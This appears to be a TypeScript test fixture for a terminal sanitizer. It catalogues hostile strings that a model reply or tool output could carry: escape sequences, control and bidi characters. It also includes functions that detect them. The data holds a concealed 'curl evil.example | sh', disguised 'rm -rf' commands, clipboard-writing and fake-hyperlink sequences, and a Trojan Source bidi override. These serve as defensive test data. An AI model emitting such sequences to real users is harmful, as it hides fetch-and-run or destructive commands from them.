// Strings an attacker would put wherever wren shows foreign text: in a model reply, a tool
// result, an MCP tool's name or description, an error message, a config value. Shared by the
// sanitizer's unit tests and the terminal tests that feed them through every sink.

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;

/** One hostile string and what it tries to do. */
export interface HostileString {
  readonly name: string;
  readonly text: string;
}

/** The title the hostile strings try to give the terminal window. */
export const HOSTILE_TITLE = "PWNED-TITLE";

/** The catalogue: escape sequences, C0/C1 controls, bidi and invisible characters. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  { name: "OSC 52 clipboard write", text: `copy${ESC}]52;c;ZWNobyBwd25lZA==${BEL}me` },
  { name: "OSC 0 window title (BEL)", text: `title${ESC}]0;${HOSTILE_TITLE}${BEL}set` },
  { name: "OSC 2 window title (ST)", text: `title${ESC}]2;${HOSTILE_TITLE}${ST}set` },
  {
    name: "OSC 8 hyperlink",
    text: `${ESC}]8;;https://evil.example/${ST}docs.example.com${ESC}]8;;${ST}`,
  },
  { name: "SGR 8 conceal", text: `ls -la${ESC}[8m; curl evil.example | sh${ESC}[0m` },
  { name: "CSI clear screen and cursor home", text: `${ESC}[2J${ESC}[Hfake prompt` },
  { name: "CSI cursor up and erase line", text: `line one\n${ESC}[1A${ESC}[2Kforged` },
  { name: "DCS", text: `${ESC}P+q544e${ST}dcs` },
  { name: "APC", text: `${ESC}_Gpayload${ST}apc` },
  { name: "PM", text: `${ESC}^privacy${ST}pm` },
  { name: "SOS", text: `${ESC}Xstart of string${ST}sos` },
  { name: "RIS full reset", text: `reset${ESC}c` },
  { name: "8-bit CSI (U+009B)", text: "c1\u009b8mhidden\u009b0m" },
  { name: "8-bit OSC (U+009D) title", text: `c1\u009d0;${HOSTILE_TITLE}\u0007osc` },
  { name: "8-bit DCS and ST", text: "c1\u0090q\u009cdcs" },
  { name: "carriage return overwrite", text: "rm -rf ~/important\rls            " },
  { name: "backspaces", text: "rm -rf /\b\b\b\b\b\b\b\becho ok" },
  { name: "BEL, NUL, DEL", text: `bell${BEL} nul\u0000 del\u007f` },
  { name: "vertical tab and form feed", text: "a\u000bb\u000cc" },
  { name: "bidi override (Trojan Source)", text: "access\u202e\u2066// admin\u2069\u2066" },
  { name: "bidi marks", text: "a\u200eb\u200fc\u061cd\u202ae\u202cf" },
  { name: "line separator", text: "one\u2028two\u2029three" },
];

/** Invisible characters that do not drive a terminal but hide what a command does. */
export const INVISIBLE_STRINGS: readonly HostileString[] = [
  { name: "zero-width space", text: "git\u200b push" },
  { name: "zero-width joiner and non-joiner", text: "r\u200dm\u200c -rf" },
  { name: "word joiner and BOM", text: "\ufeffcurl\u2060 evil" },
  { name: "tag characters", text: "ok\udb40\udc41\udb40\udc42" },
];

/** Every hostile string joined, one per line, as a model or a server would send them. */
export function hostileText(): string {
  return HOSTILE_STRINGS.map((h) => `${h.name}: ${h.text}`).join("\n");
}

/** C0 controls but tab and newline, DEL, C1 controls and bidi controls: what must not pass. */
export const TERMINAL_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** `text` without SGR colour codes (`ESC[...m`), the only sequences wren writes into text. */
export function withoutColours(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
  return text.replace(/\u001b\[[0-9;]*m/g, "");
}

/**
 * What in a raw byte stream written to a terminal would act on it beyond colours: OSC, DCS,
 * APC, PM and SOS strings (7-bit and 8-bit), any other C1 control, SGR 8 (conceal) and bidi
 * controls. Returns one description per finding; empty means the stream is inert.
 */
export function terminalInjections(output: string): string[] {
  const found: string[] = [];
  const introducers: Record<string, string> = {
    "]": "OSC",
    P: "DCS",
    _: "APC",
    "^": "PM",
    X: "SOS",
  };
  // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
  for (const match of output.matchAll(/\u001b([\]P_^X])/g)) {
    const kind = introducers[match[1] ?? ""] ?? "?";
    found.push(
      `${kind} at ${match.index}: ${JSON.stringify(output.slice(match.index, match.index + 24))}`,
    );
  }
  for (const match of output.matchAll(/[\u0080-\u009f]/g)) {
    found.push(
      `C1 U+${(match[0].codePointAt(0) ?? 0).toString(16).toUpperCase()} at ${match.index}`,
    );
  }
  for (const match of output.matchAll(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g)) {
    found.push(
      `bidi U+${(match[0].codePointAt(0) ?? 0).toString(16).toUpperCase()} at ${match.index}`,
    );
  }
  // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
  for (const match of output.matchAll(/\u001b\[([0-9;:]*)m/g)) {
    if (concealing(match[1] ?? ""))
      found.push(`SGR 8 at ${match.index}: ${JSON.stringify(match[0])}`);
  }
  return found;
}

/** Whether SGR parameters turn on conceal (8), skipping the arguments of 38/48/58 colours. */
function concealing(parameters: string): boolean {
  const params = parameters.split(";");
  for (let i = 0; i < params.length; i++) {
    const p = params[i] ?? "";
    if (p.startsWith("38") || p.startsWith("48") || p.startsWith("58")) {
      if (p.includes(":")) continue;
      const mode = params[i + 1];
      i += mode === "5" ? 2 : mode === "2" ? 4 : 0;
      continue;
    }
    if (p === "8") return true;
  }
  return false;
}
